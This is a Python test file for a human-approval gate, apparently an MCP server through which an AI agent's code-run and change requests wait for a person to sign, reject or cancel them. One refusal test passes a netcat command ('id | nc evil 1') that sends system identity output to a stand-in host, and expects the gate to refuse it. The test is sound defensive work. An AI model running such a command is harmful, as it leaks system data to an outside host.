"""The door of an agent's run: asking, waiting, repeating, reading, taking back."""

from __future__ import annotations

import asyncio
import json
import os
import re
import signal
import socket
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from mcp import Client, StdioServerParameters

from tests.door_client import approved, daemon, parameters, with_client, with_door
from tests.plugins.agents.agent_runs import make_run
from tests.support import Place, make_place, wait_until
from threegate.core import limits
from threegate.core.workspace import AgentRun
from threegate.plugins.agents.runs import RunFacts
from threegate.plugins.agents.work_copy import WorkCopy
from threegate.runners.jail.jail import Account
from threegate.setup.agent_prompt import anywhere, prompt_text

ASK = {"code": "6 * 7", "purpose": "Multiply two numbers."}
DOOR_TOOLS = [
    "run_python",
    "run_program",
    "propose_changes",
    "request_host",
    "wait",
    "requests",
    "read_output",
    "cancel",
]


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return make_place(tmp_path)


@pytest.fixture
def run(place: Place) -> AgentRun:
    return make_run(place)


def answer(result: Any) -> dict[str, Any]:
    assert isinstance(result.structured_content, dict), result
    return result.structured_content


def test_a_call_waits_with_progress_until_a_person_has_signed_and_it_ran(place: Place, run: AgentRun) -> None:
    told: list[str] = []

    async def heard(done: float, of: float | None, message: str | None) -> None:
        told.append(message or "")

    async def work(client: Client) -> None:
        names = [tool.name for tool in (await client.list_tools()).tools]
        assert names[3:] == DOOR_TOOLS
        call = asyncio.create_task(client.call_tool("run_python", ASK, progress_callback=heard))
        await approved(place, run.inbox)
        ended = answer(await call)
        assert (ended["status"], ended["exit_code"], ended["stderr"]) == ("succeeded", 0, "")
        (output,) = ended["outputs"]
        assert (output["path"], output["text"]) == ("result.json", "42\n")
        read = answer(
            await client.call_tool("read_output", {"request_id": ended["request_id"], "path": "/out/result.json"})
        )
        assert (read["text"], read["rest"]) == ("42\n", 0)
        (line,) = answer(await client.call_tool("requests", {}))["requests"]
        assert (line["state"], line["tool"]) == ("finished", "run_python")

    with daemon(place):
        with_door(place, run, work)
    assert any("a person has to read and sign it" in message for message in told)
    (event,) = place.events("approved")
    assert event["data"]["run"] == run.run_id


@pytest.mark.slow
def test_the_same_call_finds_the_same_request_and_its_answer_is_given_once(place: Place, run: AgentRun) -> None:
    now = {**ASK, "wait_sec": 0}

    async def ask(client: Client) -> dict[str, Any]:
        return answer(await client.call_tool("run_python", now))

    async def twice(client: Client) -> str:
        first, second = await ask(client), await ask(client)
        assert first["status"] == second["status"] == "pending"
        assert first["request_id"] == second["request_id"] and "repeat the same call" in first["next"]
        other = answer(await client.call_tool("run_python", {**now, "code": "6 * 8"}))
        assert other["request_id"] != first["request_id"]
        assert answer(await client.call_tool("cancel", {"request_id": other["request_id"]}))["status"] == "withdrawn"
        return str(first["request_id"])

    request = with_door(place, run, twice)
    with daemon(place):
        asyncio.run(approved(place, run.inbox))
        place.wait_for(f"agents/{run.run_id}/results/TS-*")

        async def later(client: Client) -> None:
            waited = answer(await client.call_tool("run_python", ASK))
            assert (waited["request_id"], waited["status"]) == (request, "succeeded")
            assert (await ask(client))["request_id"] != request, "its answer was given: this asks again"

        with_door(place, run, later)


@pytest.mark.slow
def test_a_client_that_goes_away_withdraws_nothing(place: Place, run: AgentRun) -> None:
    async def leave(client: Client) -> None:
        call = asyncio.create_task(client.call_tool("run_python", ASK))
        await asyncio.to_thread(wait_until, lambda: list(run.inbox.glob("TR-*.md")), "a draft")
        call.cancel()

    with_door(place, run, leave)
    assert len(list(run.inbox.glob("TR-*.md"))) == 1
    with daemon(place):
        asyncio.run(approved(place, run.inbox))

        async def again(client: Client) -> None:
            assert answer(await client.call_tool("run_python", ASK))["status"] == "succeeded"

        with_door(place, run, again)
    assert len(place.events("claimed")) == 1


@pytest.mark.slow
def test_a_client_that_no_longer_reads_is_no_internal_error(place: Place, run: AgentRun) -> None:
    how = parameters(place, run)
    door = subprocess.Popen(
        [how.command, *how.args],
        cwd=how.cwd,
        env=how.env,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert door.stdin and door.stdout
    door.stdout.close()
    said = door.communicate(b'{"jsonrpc": "2.0", "id": 1, "method": "ping"}\n')[1]
    assert (door.returncode, said) == (0, b"")


@pytest.mark.slow
def test_a_daemon_that_is_dead_or_stopped_is_said_and_loses_nothing(place: Place, run: AgentRun) -> None:
    async def ask(client: Client) -> dict[str, Any]:
        return answer(await client.call_tool("run_python", {**ASK, "wait_sec": 1}))

    assert "daemon not running" in with_door(place, run, ask)["waits_for"]
    with daemon(place) as process:
        place.wait_for(f"agents/{run.run_id}/verdicts/*.json")
        os.kill(process.pid, signal.SIGSTOP)
        assert with_door(place, run, ask)["waits_for"] == "a person has to read and sign it"
        os.kill(process.pid, signal.SIGCONT)
    assert "daemon not running" in with_door(place, run, ask)["waits_for"]
    with daemon(place):
        asyncio.run(approved(place, run.inbox))

        async def to_the_end(client: Client) -> dict[str, Any]:
            return answer(await client.call_tool("run_python", ASK))

        assert with_door(place, run, to_the_end)["status"] == "succeeded"


@pytest.mark.slow
def test_refusals_say_what_to_change(place: Place, run: AgentRun) -> None:
    async def work(client: Client) -> None:
        said = await client.call_tool("run_program", {"argv": ["sh", "-c", "id | nc evil 1"], "purpose": "Look."})
        assert said.is_error and answer(said)["status"] == "refused" and answer(said)["fixes"]
        for code in ("import socket\nsocket.socket()", "def f():\n    yield 1\nf()"):
            said = await client.call_tool("run_python", {**ASK, "code": code, "where": "monty"})
            told = " ".join(answer(said)["fixes"])
            assert said.is_error and 'use `where: "era"`' in told and "backend" not in told
            (finding, *_) = answer(said)["findings"]
            line = 1 if "socket" in code else 2
            assert (finding["argument"], finding["line"]) == ("code", line) and f"line {line}: " in answer(said)["why"]
        for arguments, words in (
            ({**ASK, "approve": True}, "no argument 'approve' here; known arguments: code"),
            ({**ASK, "time_limit_sec": 1 << 40}, "time_limit_sec: input should be less than"),
            ({"purpose": "x"}, "code: field required"),
            ({**ASK, "files": ["none.txt"]}, "files[0]: no such file"),
        ):
            said = await client.call_tool("run_python", arguments)
            assert said.is_error and answer(said)["status"] == "refused", said
            assert answer(said)["why"].startswith(words), said

    with_door(place, run, work)
    assert not list(run.inbox.glob("TR-*.md"))


@pytest.mark.slow
def test_a_person_who_says_no_is_heard(place: Place, run: AgentRun) -> None:
    async def work(client: Client) -> None:
        call = asyncio.create_task(client.call_tool("run_python", ASK))
        await asyncio.to_thread(wait_until, lambda: list(run.verdicts.glob("*.json")), "a verdict")
        (draft,) = run.inbox.glob("TR-*.md")
        await asyncio.to_thread(place.run, "reject", str(draft), "--reason", "use the small table", expect=0)
        said = await call
        assert said.is_error and answer(said)["status"] == "refused"
        assert "use the small table" in answer(said)["why"]

    with daemon(place):
        with_door(place, run, work)


@pytest.mark.slow
def test_files_of_the_work_copy_go_in(place: Place, run: AgentRun) -> None:
    (run.work / "tree" / "data").mkdir()
    (run.work / "tree" / "data" / "a.txt").write_text("one")

    async def ask(client: Client) -> dict[str, Any]:
        arguments = {"code": "1", "purpose": "Count.", "files": ["data/a.txt"], "wait_sec": 0}
        return answer(await client.call_tool("run_python", arguments))

    first = with_door(place, run, ask)
    (run.work / "tree" / "data" / "a.txt").write_text("two")
    second = with_door(place, run, ask)
    assert first["request_id"] != second["request_id"], "other bytes are another call"
    place.once()
    states = [path.read_text() for path in run.verdicts.glob("*.json")]
    assert len(states) == 2 and all('"state": "draft"' in text for text in states)


@pytest.mark.slow
def test_taking_back_what_is_signed_and_nothing_of_others(place: Place, run: AgentRun) -> None:
    other = make_run(place)

    async def ask(client: Client) -> str:
        return str(answer(await client.call_tool("run_python", {**ASK, "wait_sec": 0}))["request_id"])

    request = with_door(place, run, ask)
    place.once()
    (draft,) = run.inbox.glob("TR-*.md")
    place.approve(draft)

    async def strangers(client: Client) -> None:
        for name in ("cancel", "wait", "read_output"):
            more = {"path": "x"} if name == "read_output" else {}
            said = await client.call_tool(name, {"request_id": request, **more})
            assert said.is_error and "not one of your requests" in answer(said)["why"]
        assert answer(await client.call_tool("requests", {})) == {"requests": []}

    async def mine(client: Client) -> None:
        assert answer(await client.call_tool("cancel", {"request_id": request}))["status"] == "withdrawn"
        waited = answer(await client.call_tool("wait", {"request_id": request}))
        assert waited["status"] == "cancelled"

    with_door(place, other, strangers)
    with_door(place, run, mine)
    (event,) = place.events("cancelled")
    assert event["actor"] == f"agent:{run.run_id}" and not place.events("claimed")


@pytest.mark.slow
def test_the_guide_and_the_schemas_can_be_read(place: Place, run: AgentRun) -> None:
    async def work(client: Client) -> None:
        (prompt,) = (await client.list_prompts()).prompts
        text = (await client.get_prompt(prompt.name)).messages[0].content.text
        assert "request_type" in text and str(place.root) not in text
        for resource in (await client.list_resources()).resources:
            (read,) = (await client.read_resource(str(resource.uri))).contents
            assert read.text

    with_door(place, run, work)


@pytest.mark.slow
def test_two_doors_on_sockets_as_a_launcher_starts_them(place: Place) -> None:
    """stdin is the listening socket; what is in a jail speaks to it through socat alone."""
    runs = [make_run(place), make_run(place)]
    held = {run.run_id: os.open(run.folder, os.O_RDONLY) for run in runs}
    processes = []

    def name_of(run: AgentRun) -> str:
        return f"/proc/self/fd/{held[run.run_id]}/door.sock"  # a socket's name has at most 107 bytes

    try:
        for run in runs:
            with socket.socket(socket.AF_UNIX) as listener:
                listener.bind(name_of(run))
                listener.listen()
                command = [sys.executable, "-m", "threegate", "--workspace", str(place.root), "serve", "mcp"]
                command += ["--run", run.run_id]
                processes.append(subprocess.Popen(command, stdin=listener.fileno()))

        async def ask(client: Client) -> str:
            assert answer(await client.call_tool("requests", {}))["requests"] == []
            return str(answer(await client.call_tool("run_python", {**ASK, "wait_sec": 0}))["request_id"])

        clients = [
            StdioServerParameters(command="socat", args=["-", "UNIX-CONNECT:door.sock"], cwd=run.folder) for run in runs
        ]
        first = with_client(clients[0], ask)
        assert with_client(clients[1], ask) != first
        with socket.socket(socket.AF_UNIX) as nonsense:
            nonsense.connect(name_of(runs[0]))
            nonsense.sendall(b"\x00" * 100_000)

        async def mine(client: Client) -> None:
            (line,) = answer(await client.call_tool("requests", {}))["requests"]
            assert line["request_id"] == first

        with_client(clients[0], mine)
    finally:
        for process in processes:
            process.terminate()
            process.wait(20)
        for descriptor in held.values():
            os.close(descriptor)


@pytest.mark.slow
def test_the_permanent_agent_has_the_same_door_for_the_inbox(place: Place) -> None:
    inbox = place.root / "inbox"

    async def work(client: Client) -> None:
        call = asyncio.create_task(client.call_tool("run_python", ASK))
        await asyncio.to_thread(place.wait_for, "verdicts/*.json")
        (draft,) = inbox.glob("TR-*.md")
        await asyncio.to_thread(place.approve, draft)
        ended = answer(await call)
        assert ended["status"] == "succeeded" and ended["outputs"][0]["text"] == "42\n"

    with daemon(place):
        with_door(place, None, work)


@pytest.mark.slow
def test_a_server_that_was_killed_is_followed_by_one_that_knows_its_calls(place: Place) -> None:
    """For the inbox, where nothing but the requester's own folder outlives the server."""
    inbox = place.root / "inbox"
    how = parameters(place, None, "--wait-sec", "60")
    door = subprocess.Popen([how.command, *how.args], cwd=how.cwd, env=how.env, stdin=subprocess.PIPE)
    assert door.stdin
    call = {"name": "run_python", "arguments": ASK}
    door.stdin.write(json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": call}).encode() + b"\n")
    door.stdin.flush()
    wait_until(lambda: list(inbox.glob("TR-*.md")), "a draft")
    door.kill()
    door.wait(20)
    door.stdin.close()
    (draft,) = inbox.glob("TR-*.md")

    async def work(client: Client) -> None:
        (line,) = answer(await client.call_tool("requests", {}))["requests"]
        assert f"request_id: {line['request_id']}\n" in draft.read_text()
        waited = asyncio.create_task(client.call_tool("wait", {"request_id": line["request_id"]}))
        again = asyncio.create_task(client.call_tool("run_python", ASK))
        await asyncio.to_thread(place.wait_for, "verdicts/*.json")
        await asyncio.to_thread(place.approve, draft)
        for ended in (answer(await waited), answer(await again)):
            assert (ended["request_id"], ended["status"]) == (line["request_id"], "succeeded")

    with daemon(place):
        with_door(place, None, work)
    assert len(place.events("claimed")) == 1


@pytest.mark.slow
def test_a_long_output_is_cut_in_the_answer_and_read_page_by_page(place: Place, run: AgentRun) -> None:
    code = "for n in range(150):\n    print(str(n) + 'x' * 1500)\nopen('/out/long.txt', 'w').write('é' * 60000)\nNone"

    async def pages(client: Client, request: str, path: str) -> str:
        text, offset = "", 0
        while offset is not None:
            part = await client.call_tool("read_output", {"request_id": request, "path": path, "offset": offset})
            assert len(part.model_dump_json()) <= limits.DOOR_ANSWER_BYTES
            text, offset = text + answer(part)["text"], answer(part)["next"]
        return text

    async def work(client: Client) -> None:
        call = asyncio.create_task(client.call_tool("run_python", {"code": code, "purpose": "Print a lot."}))
        await approved(place, run.inbox)
        said = await call
        assert len(said.model_dump_json()) <= limits.DOOR_ANSWER_BYTES
        ended = answer(said)
        assert ended["status"] == "succeeded", ended
        assert "path #stdout, offset " in ended["stdout_cut"]["rest"] and ended["stdout_cut"]["of"] == 225_489
        whole = await pages(client, ended["request_id"], "#stdout")
        assert whole == "\n".join(f"{n}{'x' * 1500}" for n in range(150)) and whole.startswith(ended["stdout"])
        (row,) = ended["outputs"]
        assert row["path"] == "long.txt" and "text" not in row
        assert await pages(client, ended["request_id"], "/out/long.txt") == "é" * 60_000
        big = answer(
            await client.call_tool(
                "read_output", {"request_id": ended["request_id"], "path": "long.txt", "length": 100_001}
            )
        )
        assert (len(big["text"]), big["next"]) == (50_000, 100_000), "a length that is asked for is given"

    with daemon(place):
        with_door(place, run, work)


@pytest.mark.slow
def test_changes_of_the_work_copy_are_proposed_once(place: Place, tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / "a.txt").write_text("one\n")
    settings = place.root / "threegate.toml"
    settings.write_text(re.sub(r"(?m)^#? *root = .*$", f'root = "{project}"', settings.read_text()))
    run = make_run(place)
    (run.work / "tree").rmdir()
    WorkCopy.make(run, project, account=Account.own(), kind="plain")
    RunFacts(profile="codex", started_utc="", root=str(project), uid=os.geteuid(), gid=os.getegid()).write(run)
    tree = run.work / "tree"

    async def nothing(client: Client) -> None:
        said = await client.call_tool("propose_changes", {"purpose": "Nothing.", "wait_sec": 0})
        assert said.is_error and "no changes that could be proposed" in answer(said)["why"]

    with_door(place, run, nothing)
    (tree / "a.txt").write_text("two\n")
    (tree / "b.txt").write_text("new\n")

    async def work(client: Client) -> None:
        arguments = {"purpose": "Say two.", "paths": ["a.txt"], "wait_sec": 0}
        first = answer(await client.call_tool("propose_changes", arguments))
        assert first == answer(await client.call_tool("propose_changes", arguments))
        (tree / "a.txt").write_text("three\n")
        other = answer(await client.call_tool("propose_changes", arguments))
        assert other["status"] == "pending" and other["request_id"] != first["request_id"]
        for path in ("../..", "/etc", "a.txt/../../x"):
            said = await client.call_tool("propose_changes", {**arguments, "paths": [path]})
            assert said.is_error and "\n" not in answer(said)["why"]

    with_door(place, run, work)
    texts = sorted(path.read_text() for path in run.inbox.glob("TR-*.md"))
    assert len(texts) == 2 and all("backend: apply" in text and "b.txt" not in text for text in texts)
    place.once()
    assert all('"state": "draft"' in path.read_text() for path in run.verdicts.glob("*.json"))
    assert (project / "a.txt").read_text() == "one\n"


def test_the_prompt_names_every_tool_of_the_door() -> None:
    text = prompt_text(anywhere(), datetime(2026, 1, 1, tzinfo=UTC))
    for name in DOOR_TOOLS:
        assert f"`{name}`" in text
